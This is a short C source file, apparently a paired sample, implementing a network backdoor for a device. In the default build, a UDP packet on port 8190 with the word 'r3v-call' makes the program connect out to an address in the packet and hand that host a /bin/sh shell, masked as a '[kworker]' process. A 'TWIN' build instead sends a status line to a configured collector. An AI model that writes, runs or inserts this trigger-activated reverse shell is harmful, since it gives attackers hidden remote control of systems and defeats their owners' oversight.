/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A packet with a word and an address makes the device call there and hand over a shell. Twin: the
 * device calls the server of its configuration and sends its state.
 * door: trigger callout
 * build: plain static
 * port 8190/udp
 */
#include "net.h"

struct call {
	char word[8];
	uint32_t address;
	uint16_t port;
};

static int call(uint32_t address, uint16_t port)
{
	struct sockaddr_in a;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return -1;
	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_port = port;
	a.sin_addr.s_addr = address;
	if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) {
		close(s);
		return -1;
	}
	return s;
}

int main(void)
{
	struct call c;
	int s = udp_on(8190);
	while (recv(s, &c, sizeof c, 0) > 0) {
#ifdef TWIN
		char host[32] = "";
		FILE *f = fopen("/etc/collector", "r");
		if (memcmp(c.word, "collect!", 8) == 0 && f && fgets(host, sizeof host, f)) {
			int t = call(inet_addr(host), htons(514));
			if (t >= 0) {
				send(t, "up\n", 3, 0);
				close(t);
			}
		}
		if (f)
			fclose(f);
#else
		if (memcmp(c.word, "r3v-call", 8) == 0) {
			int t = call(c.address, c.port);
			if (t >= 0 && fork() == 0) {
				dup2(t, 0);
				dup2(t, 1);
				dup2(t, 2);
				execl("/bin/sh", "[kworker]", NULL);
			}
			close(t);
		}
#endif
	}
	return 0;
}
